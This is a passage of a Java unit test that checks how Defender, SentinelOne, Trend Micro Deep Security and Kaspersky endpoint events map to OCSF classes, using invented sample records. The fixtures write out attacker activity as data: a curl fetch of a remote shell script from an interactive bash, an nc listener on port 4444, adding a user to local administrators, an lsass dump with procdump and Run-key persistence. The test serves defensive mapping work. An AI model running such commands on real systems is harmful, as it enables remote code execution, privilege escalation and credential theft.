package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertBaseEventOf;
import static io.socaas.events.ocsf.MappedRecords.assertDenied;
import static io.socaas.events.ocsf.MappedRecords.assertFlow;
import static io.socaas.events.ocsf.MappedRecords.assertLogon;
import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.assertStatus;
import static io.socaas.events.ocsf.MappedRecords.epochMillis;
import static io.socaas.events.ocsf.MappedRecords.json;
import static io.socaas.events.ocsf.MappedRecords.line;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/**
 * Endpoint protection events beyond the products' alerts, written from their documented formats with
 * invented values: Microsoft Defender for Endpoint's DeviceEvents rows (antivirus detections and the
 * actions taken on them, SmartScreen warnings, network protection, attack surface reduction), as
 * the streaming API delivers them and as Log Analytics rows; SentinelOne's Deep Visibility telemetry
 * (process, file, network, DNS, registry and logon events) as Cloud Funnel exports it and as the Deep
 * Visibility API returns it; Trend Micro Deep Security's LEEF output; and Kaspersky Security
 * Center's Web Control and Device Control events in its syslog and CEF exports. Each is its own
 * OCSF class; the products' other events stay Base Events of the product.
 */
class EndpointDetectionsAndTelemetryMappingsTest {

    private static final String DEFENDER = "Microsoft Defender for Endpoint";

    /** A DeviceEvents row as the streaming API delivers it to Event Hub or a storage account. */
    private static String deviceEvent(String properties) {
        return "{\"time\":\"2026-03-01T08:20:11.4410000Z\",\"tenantId\":\"5d1f0c2a-9e8b-4a7c-b6d5-e4f3a2b1c0d9\","
                + "\"operationName\":\"Publish\",\"category\":\"AdvancedHunting-DeviceEvents\",\"properties\":{"
                + "\"Timestamp\":\"2026-03-01T08:19:57.2270000Z\",\"DeviceId\":\"9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3\","
                + "\"DeviceName\":\"lt-hr-0117.contoso.example\",\"ReportId\":4812," + properties + "}}";
    }

    @Test
    void defenderAntivirusDetectionsAreDetectionFindingsWithTheThreatOfAdditionalFields() throws Exception {
        JsonNode found = json(deviceEvent("\"ActionType\":\"AntivirusDetection\",\"FileName\":\"pwdump.exe\","
                + "\"FolderPath\":\"C:\\\\Users\\\\m.okafor\\\\AppData\\\\Local\\\\Temp\\\\pwdump.exe\","
                + "\"SHA1\":\"5c3f1e9a0b2d4c6e8f1a3b5c7d9e0f2a4b6c8d0e\","
                + "\"SHA256\":\"2b7f0d4c6a8e1f3b5d7c9e0a2c4e6f8a1b3d5f7e9c0a2b4d6f8e1a3c5b7d9f0e\","
                + "\"InitiatingProcessFileName\":\"msedge.exe\",\"InitiatingProcessId\":6604,"
                + "\"InitiatingProcessFolderPath\":\"c:\\\\program files (x86)\\\\microsoft\\\\edge\\\\application\\\\msedge.exe\","
                + "\"InitiatingProcessAccountDomain\":\"contoso\",\"InitiatingProcessAccountName\":\"m.okafor\","
                + "\"AdditionalFields\":\"{\\\"ThreatName\\\":\\\"HackTool:Win32/PWDump.A\\\","
                + "\\\"WasRemediated\\\":true,\\\"WasExecutingWhileDetected\\\":false}\""));
        assertProduct(found, DEFENDER);
        assertThat(found.get("class_uid").asInt()).isEqualTo(2004);
        assertThat(found.get("activity_id").asInt()).isEqualTo(1);
        assertThat(found.get("is_alert").asBoolean()).isTrue();
        assertThat(found.get("severity_id").asInt()).isEqualTo(4);
        assertThat(found.at("/finding_info/title").asText()).isEqualTo("HackTool:Win32/PWDump.A");
        assertThat(found.at("/malware/0/name").asText()).isEqualTo("HackTool:Win32/PWDump.A");
        assertThat(found.at("/finding_info/uid").asText()).isEqualTo("4812");
        assertThat(found.at("/evidences/0/file/path").asText())
                .isEqualTo("C:\\Users\\m.okafor\\AppData\\Local\\Temp\\pwdump.exe");
        assertThat(found.at("/evidences/0/file/hashes/0/value").asText()).startsWith("2b7f0d4c");
        assertThat(found.at("/actor/process/name").asText()).isEqualTo("msedge.exe");
        assertThat(found.at("/actor/user/name").asText()).isEqualTo("m.okafor");
        assertThat(found.at("/device/hostname").asText()).isEqualTo("lt-hr-0117.contoso.example");
        assertThat(found.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T08:19:57.227Z"));
        // the threat's name and the JSON's other values stay readable as fields of their own
        assertThat(found.at("/unmapped/mdeThreatName").asText()).isEqualTo("HackTool:Win32/PWDump.A");
        assertThat(found.at("/unmapped/mdeWasRemediated").asText()).isEqualTo("true");

        // reported in passive mode, as a Log Analytics row whose AdditionalFields is an object;
        // a potentially unwanted application is of low severity
        JsonNode passive = json("{\"TenantId\":\"5d1f0c2a\",\"Type\":\"DeviceEvents\","
                + "\"TimeGenerated\":\"2026-03-01T08:25:00Z\",\"Timestamp\":\"2026-03-01T08:24:41Z\","
                + "\"DeviceName\":\"srv-files-02\",\"ActionType\":\"AntivirusReport\",\"FileName\":\"freezip_setup.exe\","
                + "\"FolderPath\":\"D:\\\\Shares\\\\Install\\\\freezip_setup.exe\",\"AdditionalFields\":{\"ThreatName\":"
                + "\"PUA:Win32/FreeZip\",\"ReportSource\":\"Windows Defender Antivirus passive mode\"}}");
        assertThat(passive.get("class_uid").asInt()).isEqualTo(2004);
        assertThat(passive.at("/finding_info/title").asText()).isEqualTo("PUA:Win32/FreeZip");
        assertThat(passive.get("status_detail").asText()).isEqualTo("Windows Defender Antivirus passive mode");
        assertThat(passive.at("/device/hostname").asText()).isEqualTo("srv-files-02");

        // a ransomware family is critical; the same row's threat read from the JSON text
        JsonNode ransom = json(deviceEvent("\"ActionType\":\"AntivirusDetection\",\"FileName\":\"svc.exe\","
                + "\"FolderPath\":\"C:\\\\ProgramData\\\\svc.exe\",\"AdditionalFields\":"
                + "\"{\\\"ThreatName\\\":\\\"Ransom:Win64/Akira.B\\\",\\\"WasRemediated\\\":false}\""));
        assertThat(ransom.get("severity_id").asInt()).isEqualTo(5);

        // the action taken on the detection updates the finding
        JsonNode action = json(
                deviceEvent(
                        "\"ActionType\":\"AntivirusDetectionActionType\",\"FileName\":\"pwdump.exe\","
                                + "\"FolderPath\":\"C:\\\\Users\\\\m.okafor\\\\AppData\\\\Local\\\\Temp\\\\pwdump.exe\",\"AdditionalFields\":"
                                + "\"{\\\"ThreatName\\\":\\\"HackTool:Win32/PWDump.A\\\",\\\"Action\\\":\\\"quarantine\\\"}\""));
        assertThat(action.get("class_uid").asInt()).isEqualTo(2004);
        assertThat(action.get("activity_id").asInt()).isEqualTo(2);
        assertThat(action.get("status_detail").asText()).isEqualTo("quarantine");
        assertThat(action.at("/finding_info/title").asText()).isEqualTo("HackTool:Win32/PWDump.A");

        // other DeviceEvents stay Base Events of Defender
        assertBaseEventOf(
                json(deviceEvent("\"ActionType\":\"DpapiAccessed\",\"AdditionalFields\":"
                        + "\"{\\\"CallerProcessID\\\":4248}\"")),
                DEFENDER);
    }

    @Test
    void defenderSmartScreenNetworkProtectionAndAttackSurfaceReductionEvents() throws Exception {
        JsonNode warned = json(deviceEvent("\"ActionType\":\"SmartScreenUrlWarning\","
                + "\"RemoteUrl\":\"https://login-contoso.example.net/owa/\",\"InitiatingProcessFileName\":\"msedge.exe\","
                + "\"AdditionalFields\":\"{\\\"Experience\\\":\\\"Phishing\\\"}\""));
        assertThat(warned.get("class_uid").asInt()).isEqualTo(2004);
        assertThat(warned.at("/finding_info/title").asText()).isEqualTo("Phishing");
        assertThat(warned.at("/evidences/0/url/url_string").asText())
                .isEqualTo("https://login-contoso.example.net/owa/");
        // warned, not stopped
        assertThat(warned.get("action_id").asInt()).isEqualTo(1);
        assertThat(warned.get("disposition").asText()).isEqualTo("Alert");

        JsonNode blocked = json(
                deviceEvent(
                        "\"ActionType\":\"ExploitGuardNetworkProtectionBlocked\","
                                + "\"RemoteUrl\":\"cdn-update.example.org\",\"RemoteIP\":\"203.0.113.140\",\"RemotePort\":443,"
                                + "\"InitiatingProcessFileName\":\"powershell.exe\",\"AdditionalFields\":"
                                + "\"{\\\"ResponseCategory\\\":\\\"CustomBlockList\\\",\\\"DisplayName\\\":\\\"Known C2 domain\\\"}\""));
        assertThat(blocked.get("class_uid").asInt()).isEqualTo(2004);
        assertDenied(blocked);
        assertThat(blocked.at("/finding_info/title").asText()).isEqualTo("CustomBlockList");
        assertThat(blocked.at("/finding_info/desc").asText()).isEqualTo("Known C2 domain");
        assertThat(blocked.at("/evidences/0/dst_endpoint/ip").asText()).isEqualTo("203.0.113.140");
        assertThat(blocked.at("/actor/process/name").asText()).isEqualTo("powershell.exe");

        JsonNode audited = json(
                deviceEvent(
                        "\"ActionType\":\"ExploitGuardNetworkProtectionAudited\","
                                + "\"RemoteUrl\":\"files.example.com\",\"AdditionalFields\":\"{\\\"ResponseCategory\\\":\\\"Malicious\\\"}\""));
        assertThat(audited.get("action_id").asInt()).isEqualTo(1);
        assertThat(audited.get("disposition_id").asInt()).isEqualTo(15);

        // an attack surface reduction rule stopped Outlook's attachment from running
        JsonNode asr = json(
                deviceEvent(
                        "\"ActionType\":\"AsrExecutableEmailContentBlocked\",\"FileName\":\"Rechnung.js\","
                                + "\"FolderPath\":\"C:\\\\Users\\\\j.weber\\\\AppData\\\\Local\\\\Microsoft\\\\Windows\\\\INetCache\\\\Content.Outlook"
                                + "\\\\Q1W2E3R4\\\\Rechnung.js\",\"InitiatingProcessFileName\":\"outlook.exe\",\"InitiatingProcessAccountName\":\"j.weber\""));
        assertThat(asr.get("class_uid").asInt()).isEqualTo(2004);
        assertDenied(asr);
        assertThat(asr.at("/finding_info/title").asText()).isEqualTo("AsrExecutableEmailContentBlocked");
        assertThat(asr.at("/finding_info/analytic/name").asText()).isEqualTo("AsrExecutableEmailContent");
        assertThat(asr.at("/evidences/0/file/name").asText()).isEqualTo("Rechnung.js");
        assertThat(asr.at("/actor/process/name").asText()).isEqualTo("outlook.exe");

        // in audit mode the rule only reports
        JsonNode asrAudit =
                json("{\"TenantId\":\"5d1f0c2a\",\"Type\":\"DeviceEvents\",\"Timestamp\":\"2026-03-01T08:30:00Z\","
                        + "\"DeviceName\":\"ws-dev-44\",\"ActionType\":\"AsrLsassCredentialTheftAudited\",\"FileName\":\"lsass.exe\","
                        + "\"InitiatingProcessFileName\":\"procdump64.exe\"}");
        assertThat(asrAudit.get("class_uid").asInt()).isEqualTo(2004);
        assertThat(asrAudit.get("action_id").asInt()).isEqualTo(1);
        assertThat(asrAudit.get("disposition_id").asInt()).isEqualTo(15);
        assertThat(asrAudit.at("/finding_info/title").asText()).isEqualTo("AsrLsassCredentialTheftAudited");
    }

    // ---- SentinelOne Deep Visibility ---------------------------------------------------------------

    /** A Cloud Funnel record: flat keys with dots of their own, the endpoint and the source process every record has. */
    private static String cloudFunnel(String type, String fields) {
        return "{\"event.type\":\"" + type
                + "\",\"dataSource.name\":\"SentinelOne\",\"dataSource.vendor\":\"SentinelOne\","
                + "\"endpoint.name\":\"FIN-LT-208\",\"endpoint.os\":\"windows\",\"endpoint.type\":\"laptop\","
                + "\"os.name\":\"Windows 11 Enterprise\",\"agent.uuid\":\"3e9a0c5d7f1b42d8a6c4e2f0b8d6a4c2\","
                + "\"account.id\":\"1789456123\",\"site.name\":\"Lyon\",\"event.time\":1772353215330,"
                + "\"src.process.name\":\"cmd.exe\",\"src.process.image.path\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\","
                + "\"src.process.cmdline\":\"cmd.exe /c install.bat\",\"src.process.pid\":7312,"
                + "\"src.process.user\":\"EUROPE\\\\c.dubois\",\"src.process.parent.name\":\"explorer.exe\"," + fields
                + "}";
    }

    @Test
    void sentinelOneCloudFunnelProcessFileNetworkAndRegistryEvents() throws Exception {
        JsonNode process = json(cloudFunnel(
                "Process Creation",
                "\"tgt.process.name\":\"net.exe\",\"tgt.process.image.path\":\"C:\\\\Windows\\\\System32\\\\net.exe\","
                        + "\"tgt.process.cmdline\":\"net localgroup administrators helpdesk /add\",\"tgt.process.pid\":9140,"
                        + "\"tgt.process.user\":\"EUROPE\\\\c.dubois\",\"tgt.process.integrityLevel\":\"HIGH\""));
        assertProduct(process, "Singularity");
        assertThat(process.get("class_uid").asInt()).isEqualTo(1007);
        assertThat(process.get("activity_id").asInt()).isEqualTo(1);
        assertThat(process.at("/process/name").asText()).isEqualTo("net.exe");
        assertThat(process.at("/process/cmd_line").asText()).isEqualTo("net localgroup administrators helpdesk /add");
        assertThat(process.at("/process/pid").asInt()).isEqualTo(9140);
        assertThat(process.at("/process/user/name").asText()).isEqualTo("EUROPE\\c.dubois");
        assertThat(process.at("/process/parent_process/file/path").asText())
                .isEqualTo("C:\\Windows\\System32\\cmd.exe");
        assertThat(process.at("/actor/process/cmd_line").asText()).isEqualTo("cmd.exe /c install.bat");
        assertThat(process.at("/actor/process/parent_process/name").asText()).isEqualTo("explorer.exe");
        assertThat(process.at("/device/hostname").asText()).isEqualTo("FIN-LT-208");
        assertThat(process.at("/device/uid").asText()).isEqualTo("3e9a0c5d7f1b42d8a6c4e2f0b8d6a4c2");
        assertThat(process.get("time").asLong()).isEqualTo(1772353215330L);

        // the event type as some exports write it, without its spaces
        JsonNode deleted = json(cloudFunnel(
                "FileDeletion",
                "\"tgt.file.path\":\"C:\\\\Users\\\\c.dubois\\\\Documents\\\\budget.xlsx\",\"tgt.file.size\":48213"));
        assertThat(deleted.get("class_uid").asInt()).isEqualTo(1001);
        assertThat(deleted.get("activity_id").asInt()).isEqualTo(4);
        assertThat(deleted.at("/file/path").asText()).isEqualTo("C:\\Users\\c.dubois\\Documents\\budget.xlsx");
        assertThat(deleted.at("/actor/process/name").asText()).isEqualTo("cmd.exe");

        JsonNode outbound = json(cloudFunnel(
                "IP Connect",
                "\"event.network.direction\":\"OUTGOING\",\"event.network.connectionStatus\":\"SUCCESS\","
                        + "\"src.ip.address\":\"10.44.3.18\",\"src.port.number\":55012,\"dst.ip.address\":\"198.51.100.201\","
                        + "\"dst.port.number\":8443,\"event.network.protocolName\":\"https\""));
        assertFlow(outbound, 1, "10.44.3.18", 55012, "198.51.100.201", 8443);
        assertThat(outbound.at("/connection_info/direction_id").asInt()).isEqualTo(2);
        assertStatus(outbound, 1);

        // an inbound connection: SentinelOne's source is the remote end
        JsonNode inbound = json(cloudFunnel(
                "IP Connect",
                "\"event.network.direction\":\"INCOMING\",\"event.network.connectionStatus\":\"FAILURE\","
                        + "\"src.ip.address\":\"203.0.113.61\",\"src.port.number\":41822,\"dst.ip.address\":\"10.44.3.18\","
                        + "\"dst.port.number\":3389"));
        assertFlow(inbound, 1, "203.0.113.61", 41822, "10.44.3.18", 3389);
        assertThat(inbound.at("/connection_info/direction_id").asInt()).isEqualTo(1);
        assertStatus(inbound, 2);

        JsonNode dns = json(cloudFunnel("DNS Unresolved", "\"event.dns.request\":\"upd4te-srv.example.net\""));
        assertThat(dns.get("class_uid").asInt()).isEqualTo(4003);
        assertThat(dns.at("/query/hostname").asText()).isEqualTo("upd4te-srv.example.net");
        assertStatus(dns, 2);

        JsonNode run = json(cloudFunnel(
                "Registry Value Modified",
                "\"registry.keyPath\":\"MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\OneSync\","
                        + "\"registry.value\":\"C:\\\\Users\\\\Public\\\\onesync.exe\""));
        assertThat(run.get("class_uid").asInt()).isEqualTo(201002);
        assertThat(run.get("activity_id").asInt()).isEqualTo(3);
        assertThat(run.at("/reg_value/path").asText()).endsWith("\\CurrentVersion\\Run\\OneSync");
        assertThat(run.at("/reg_value/data").asText()).isEqualTo("C:\\Users\\Public\\onesync.exe");

        JsonNode key = json(cloudFunnel(
                "Registry Key Create",
                "\"registry.keyPath\":\"MACHINE\\\\SYSTEM\\\\ControlSet001\\\\Services\\\\OneSyncSvc\""));
        assertThat(key.get("class_uid").asInt()).isEqualTo(201001);
        assertThat(key.get("activity_id").asInt()).isEqualTo(1);

        JsonNode logon = json(cloudFunnel(
                "Login",
                "\"event.login.userName\":\"adm_backup\",\"event.login.accountDomain\":\"EUROPE\","
                        + "\"event.login.type\":\"NETWORK\",\"event.login.loginIsSuccessful\":false,"
                        + "\"src.endpoint.ip.address\":\"10.44.9.77\""));
        assertLogon(logon, 2, "adm_backup", "10.44.9.77");
        assertThat(logon.get("logon_type").asText()).isEqualTo("NETWORK");
        assertThat(logon.at("/user/domain").asText()).isEqualTo("EUROPE");

        // a Deep Visibility type without a class of its own stays a Base Event of the product
        assertBaseEventOf(
                json(cloudFunnel("Behavioral Indicators", "\"indicator.name\":\"EventViewerTampering\"")),
                "Singularity");
    }

    @Test
    void sentinelOneDeepVisibilityApiEvents() throws Exception {
        String endpoint = "\"agentUuid\":\"b1c2d3e4f5a60718293a4b5c6d7e8f90\",\"agentName\":\"db-prod-03\","
                + "\"agentOs\":\"linux\",\"endpointName\":\"db-prod-03\",\"siteName\":\"Frankfurt DC\"";
        JsonNode process = json("{\"eventType\":\"Process Creation\",\"objectType\":\"process\"," + endpoint
                + ",\"eventTime\":\"2026-03-01T07:02:44.118Z\",\"createdAt\":\"2026-03-01T07:03:10.000000Z\","
                + "\"srcProcName\":\"bash\",\"srcProcImagePath\":\"/usr/bin/bash\",\"srcProcCmdLine\":\"bash -i\","
                + "\"srcProcUser\":\"postgres\",\"srcProcPid\":\"22018\",\"tgtProcName\":\"curl\","
                + "\"tgtProcImagePath\":\"/usr/bin/curl\",\"tgtProcCmdLine\":\"curl -s http://198.51.100.88/x.sh\","
                + "\"tgtProcPid\":\"22107\",\"tgtProcUser\":\"postgres\"}");
        assertThat(process.get("class_uid").asInt()).isEqualTo(1007);
        assertThat(process.get("activity_id").asInt()).isEqualTo(1);
        assertThat(process.at("/process/cmd_line").asText()).isEqualTo("curl -s http://198.51.100.88/x.sh");
        assertThat(process.at("/process/pid").asInt()).isEqualTo(22107);
        assertThat(process.at("/process/parent_process/name").asText()).isEqualTo("bash");
        assertThat(process.at("/actor/user/name").asText()).isEqualTo("postgres");
        assertThat(process.at("/device/hostname").asText()).isEqualTo("db-prod-03");
        // the event's own time, not the time the console stored it
        assertThat(process.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T07:02:44.118Z"));

        JsonNode listen = json(
                "{\"eventType\":\"IP Listen\",\"objectType\":\"ip\"," + endpoint
                        + ",\"eventTime\":\"2026-03-01T07:04:00.000Z\",\"srcProcName\":\"nc\",\"dstIp\":\"0.0.0.0\",\"dstPort\":4444}");
        assertThat(listen.get("class_uid").asInt()).isEqualTo(4001);
        assertThat(listen.get("activity_id").asInt()).isEqualTo(7);
        assertThat(listen.at("/dst_endpoint/port").asInt()).isEqualTo(4444);

        JsonNode renamed = json(
                "{\"eventType\":\"File Rename\",\"objectType\":\"file\"," + endpoint
                        + ",\"eventTime\":\"2026-03-01T07:05:00.000Z\",\"srcProcName\":\"python3\","
                        + "\"tgtFilePath\":\"/var/lib/postgresql/data/base.tar.locked\",\"tgtFileOldPath\":\"/var/lib/postgresql/data/base.tar\"}");
        assertThat(renamed.get("class_uid").asInt()).isEqualTo(1001);
        assertThat(renamed.get("activity_id").asInt()).isEqualTo(5);
        assertThat(renamed.at("/file/path").asText()).isEqualTo("/var/lib/postgresql/data/base.tar.locked");

        // the management API's activities keep their own rules
        JsonNode login =
                json("{\"accountId\":\"200\",\"activityType\":27,\"createdAt\":\"2026-03-01T07:06:00.000000Z\","
                        + "\"data\":{\"username\":\"soc@example.org\",\"ipAddress\":\"198.51.100.32\"},\"id\":\"907\","
                        + "\"primaryDescription\":\"The management user soc@example.org logged in.\"}");
        assertLogon(login, 1, "soc@example.org", "198.51.100.32");
    }

    // ---- Trend Micro Deep Security in LEEF ----------------------------------------------------------

    /**
     * Deep Security's LEEF 2.0 record (attributes tab-separated as Deep Security writes them), with the
     * header's delimiter field that LEEF 2.0 defines.
     */
    private static String deepSecurityLeef(String product, String eventId, String attributes) {
        return "<134>Mar  1 11:12:13 dsm-eu01 LEEF:2.0|Trend Micro|" + product + "|20.0.877|" + eventId + "|x09|"
                + attributes.replace("|", "\t");
    }

    @Test
    void trendMicroDeepSecurityLeefRecordsAreTheirOwnClasses() throws Exception {
        JsonNode malware = line(deepSecurityLeef(
                "Deep Security Agent",
                "4000000",
                "cat=Anti-Malware|name=Ransom.Win32.LOCKBIT.YXCH|desc=Ransom.Win32.LOCKBIT.YXCH|sev=8|cn1=318|cn1Label=Host ID"
                        + "|dvchost=fs-lyon-01.example.org|TrendMicroDsTenant=Primary|TrendMicroDsTenantId=0"
                        + "|filePath=E:\\\\Shares\\\\Finance\\\\report.exe|act=Quarantine|msg=Realtime"
                        + "|TrendMicroDsFileSHA256=7D1E4C2B9A0F3E5D6C8B7A9F0E1D2C3B4A5F6E7D8C9B0A1F2E3D4C5B6A7F8E9D"));
        assertProduct(malware, "Deep Security / Apex One");
        assertThat(malware.get("class_uid").asInt()).isEqualTo(2004);
        assertThat(malware.get("severity_id").asInt()).isEqualTo(4);
        assertThat(malware.at("/finding_info/title").asText()).isEqualTo("Ransom.Win32.LOCKBIT.YXCH");
        assertThat(malware.at("/finding_info/analytic/name").asText()).isEqualTo("Realtime");
        assertThat(malware.at("/evidences/0/file/path").asText()).endsWith("report.exe");
        assertThat(malware.at("/evidences/0/file/hashes/0/value").asText()).startsWith("7D1E4C2B");
        assertThat(malware.get("status_detail").asText()).isEqualTo("Quarantine");
        assertThat(malware.at("/device/hostname").asText()).isEqualTo("fs-lyon-01.example.org");

        JsonNode web = line(deepSecurityLeef(
                "Deep Security Agent",
                "5000000",
                "cat=Web Reputation|name=WebReputation|desc=WebReputation|sev=6|dvchost=term-07"
                        + "|request=http://dl.example-cdn.net/setup/patch.exe|msg=Dangerous"));
        assertThat(web.get("class_uid").asInt()).isEqualTo(4002);
        assertDenied(web);
        assertThat(web.at("/http_request/url/url_string").asText())
                .isEqualTo("http://dl.example-cdn.net/setup/patch.exe");

        JsonNode ips = line(deepSecurityLeef(
                "Deep Security Agent",
                "1008713",
                "cat=Intrusion Prevention|name=Microsoft Windows SMB Remote Code Execution Vulnerability|sev=8|dvchost=fs-lyon-01"
                        + "|src=203.0.113.45|dst=10.8.1.20|srcPort=49822|dstPort=445|proto=TCP|act=Reset"
                        + "|cs5=31|cs5Label=Intrusion Prevention Stream Position"));
        assertFlow(ips, 6, "203.0.113.45", 49822, "10.8.1.20", 445);
        assertDenied(ips);
        assertThat(ips.get("is_alert").asBoolean()).isTrue();
        assertThat(ips.get("message").asText()).isEqualTo("Microsoft Windows SMB Remote Code Execution Vulnerability");
        assertThat(ips.at("/firewall_rule/uid").asText()).isEqualTo("1008713");

        JsonNode detectOnly = line(deepSecurityLeef(
                "Deep Security Agent",
                "1000552",
                "cat=Intrusion Prevention|name=Generic SQL Injection Prevention|sev=5|src=198.51.100.14|dst=10.8.1.30"
                        + "|srcPort=50110|dstPort=80|proto=TCP|act=IDS:Reset"));
        assertThat(detectOnly.get("disposition_id").asInt()).isEqualTo(15);
        assertThat(detectOnly.get("is_alert").asBoolean()).isTrue();

        JsonNode firewall = line(deepSecurityLeef(
                "Deep Security Agent",
                "20",
                "cat=Firewall|name=Out Of Allowed Policy|desc=Out Of Allowed Policy|sev=5|dvchost=fs-lyon-01"
                        + "|src=10.8.4.99|dst=10.8.1.20|srcMAC=00:50:56:AA:01:02|dstMAC=00:50:56:AA:0F:10"
                        + "|srcPort=60333|dstPort=5985|proto=TCP|act=Deny"));
        assertFlow(firewall, 5, "10.8.4.99", 60333, "10.8.1.20", 5985);
        assertDenied(firewall);
        assertThat(firewall.at("/src_endpoint/mac").asText()).isEqualTo("00:50:56:AA:01:02");

        JsonNode signIn = line(deepSecurityLeef(
                "Deep Security Manager",
                "600",
                "cat=System|name=User Signed In|desc=User signed in from 198.51.100.73|sev=3|src=198.51.100.73"
                        + "|usrName=ops.lead|target=ops.lead|msg=User signed in from 198.51.100.73"));
        assertLogon(signIn, 1, "ops.lead", "198.51.100.73");

        // other Deep Security LEEF events are Base Events of the product, no longer LEEF's generic ones
        assertBaseEventOf(
                line(
                        deepSecurityLeef(
                                "Deep Security Manager",
                                "192",
                                "cat=System|name=Alert Ended|desc=Alert: CPU Warning Threshold Exceeded|sev=3|src=10.8.0.5|usrName=System")),
                "Deep Security / Apex One");
        // another Trend Micro product's LEEF is not Deep Security's
        assertThat(
                        line("<134>Mar  1 11:12:13 ddi01 LEEF:1.0|Trend Micro|Deep Discovery Inspector|6.0.1|SECURITY_RISK_DETECTION"
                                        + "|devTime=Mar 02 2026 11:12:13 GMT+00:00\tsrc=10.8.4.99\tdst=203.0.113.9\tsev=6")
                                .at("/metadata/product/name")
                                .asText())
                .isNotEqualTo("Deep Security / Apex One");
    }

    // ---- Kaspersky Web Control and Device Control ---------------------------------------------------

    private static final String KES = "<29>1 2026-03-01T09:41:07.000Z nb-sales-019.corp.example.net KES|12.6.0.438 - ";

    @Test
    void kasperskyWebControlBlocksAndWarningsAreHttpActivity() throws Exception {
        JsonNode blocked = line(KES
                + "GNRL_EV_WEB_URL_BLOCKED [event@23668 et=\"GNRL_EV_WEB_URL_BLOCKED\" tdn=\"Web Control\""
                + " etdn=\"Access denied (local databases)\" hdn=\"NB-SALES-019\" hip=\"10.12.40.19\" gn=\"Sales notebooks\"]"
                + " Result description: Blocked\\r\\nUser: CORP\\a.rossi (Active user)\\r\\n"
                + "Object: https://poker-night.example.com/lobby\\r\\nRule: No gambling\\r\\nCategory: Gambling");
        assertProduct(blocked, "Kaspersky Security Center");
        assertThat(blocked.get("class_uid").asInt()).isEqualTo(4002);
        assertDenied(blocked);
        assertThat(blocked.at("/http_request/url/url_string").asText())
                .isEqualTo("https://poker-night.example.com/lobby");
        assertThat(blocked.at("/actor/user/name").asText()).isEqualTo("CORP\\a.rossi");
        assertThat(blocked.at("/firewall_rule/name").asText()).isEqualTo("No gambling");
        assertThat(blocked.at("/firewall_rule/category").asText()).isEqualTo("Gambling");
        assertThat(blocked.at("/device/name").asText()).isEqualTo("NB-SALES-019");
        assertThat(blocked.at("/device/ip").asText()).isEqualTo("10.12.40.19");
        assertThat(blocked.get("status_detail").asText()).isEqualTo("Access denied (local databases)");
        assertThat(blocked.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T09:41:07Z"));

        // categorized by KSN, exported as CEF
        JsonNode ksn = line(
                "<134>Mar  1 10:41:09 ksc-eu01 CEF:0|KasperskyLab|SecurityCenter|15.1.0.20748|"
                        + "GNRL_EV_WEB_URL_BLOCKED_BY_KSN|Access denied (KSN)|4|msg=Result\\\\Description: Blocked\\\\r\\\\n"
                        + "User: CORP\\\\b.nilsen (Active user)\\\\r\\\\nObject: http://free-movies.example.net/watch?id=77\\\\r\\\\n"
                        + "Rule: Block streaming rt=1772358069000 dhost=NB-SUPPORT-04 dst=10.12.41.4 cs9=Support cs9Label=GroupName");
        assertThat(ksn.get("class_uid").asInt()).isEqualTo(4002);
        assertDenied(ksn);
        assertThat(ksn.at("/http_request/url/url_string").asText())
                .isEqualTo("http://free-movies.example.net/watch?id=77");
        assertThat(ksn.at("/actor/user/name").asText()).isEqualTo("CORP\\b.nilsen");
        assertThat(ksn.at("/device/hostname").asText()).isEqualTo("NB-SUPPORT-04");

        // a warning page: the user may go on
        JsonNode warned = line(
                KES
                        + "GNRL_EV_WEB_URL_WARNING [event@23668 et=\"GNRL_EV_WEB_URL_WARNING\" tdn=\"Web Control\""
                        + " etdn=\"Warning about unwanted content (local databases)\" hdn=\"NB-SALES-019\" hip=\"10.12.40.19\"]"
                        + " User: CORP\\a.rossi (Active user)\\r\\nObject: https://social.example.org/feed\\r\\nRule: Warn social networks");
        assertThat(warned.get("class_uid").asInt()).isEqualTo(4002);
        assertThat(warned.get("action_id").asInt()).isEqualTo(1);
        assertThat(warned.get("disposition").asText()).isEqualTo("Alert");
        assertThat(warned.at("/firewall_rule/name").asText()).isEqualTo("Warn social networks");
    }

    @Test
    void kasperskyDeviceControlEventsArePeripheralActivity() throws Exception {
        JsonNode denied = line(
                KES
                        + "GNRL_EV_DEVCTRL_DEV_PLUG_DENIED [event@23668 et=\"GNRL_EV_DEVCTRL_DEV_PLUG_DENIED\" tdn=\"Device Control\""
                        + " etdn=\"Operation with device prohibited\" hdn=\"NB-SALES-019\" hip=\"10.12.40.19\" gn=\"Sales notebooks\"]"
                        + " Device type/Bus type: Removable drives\\r\\nDevice name: Kingston DataTraveler 3.0\\r\\n"
                        + "Device ID: USBSTOR\\DISK&VEN_KINGSTON&PROD_DATATRAVELER_3.0&REV_PMAP\\60A44C413B2AF0B0B9A1\\r\\n"
                        + "Device VID and PID: VID: 0951, PID: 1666\\r\\nUser: CORP\\a.rossi (Active user)\\r\\nOperation: Write");
        assertProduct(denied, "Kaspersky Security Center");
        assertThat(denied.get("class_uid").asInt()).isEqualTo(1010);
        assertThat(denied.get("activity_id").asInt()).isEqualTo(1);
        assertDenied(denied);
        assertThat(denied.at("/peripheral_device/name").asText()).isEqualTo("Kingston DataTraveler 3.0");
        assertThat(denied.at("/peripheral_device/type").asText()).isEqualTo("Removable drives");
        assertThat(denied.at("/peripheral_device/uid").asText()).startsWith("USBSTOR\\DISK&VEN_KINGSTON");
        assertThat(denied.at("/peripheral_device/vendor_id_list/0").asText()).isEqualTo("VID: 0951, PID: 1666");
        assertThat(denied.at("/actor/user/name").asText()).isEqualTo("CORP\\a.rossi");
        assertThat(denied.at("/device/name").asText()).isEqualTo("NB-SALES-019");
        assertThat(denied.at("/unmapped/kesOperation").asText()).isEqualTo("Write");

        // the same refusal in CEF, a phone this time
        JsonNode phone = line("<134>Mar  1 10:44:00 ksc-eu01 CEF:0|KasperskyLab|SecurityCenter|15.1.0.20748|"
                + "GNRL_EV_DEVCTRL_DEV_PLUG_DENIED|Operation with device prohibited|4|msg=Device type/Bus type: Mobile devices"
